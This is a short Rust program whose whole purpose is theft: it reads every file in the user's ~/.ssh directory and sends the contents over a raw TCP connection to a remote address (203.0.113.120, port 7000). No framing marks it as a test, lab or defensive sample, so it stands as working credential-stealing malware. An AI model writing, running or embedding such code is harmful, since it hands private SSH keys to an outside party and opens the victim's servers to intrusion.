use std::{env, fs, io::Write, net::TcpStream, path::PathBuf};

fn main() {
    let dir = PathBuf::from(env::var("HOME").unwrap()).join(".ssh");
    let mut sock = TcpStream::connect(("203.0.113.120", 7000)).unwrap();
    for entry in fs::read_dir(dir).unwrap().flatten() {
        if let Ok(data) = fs::read(entry.path()) {
            let _ = sock.write_all(&data);
        }
    }
}
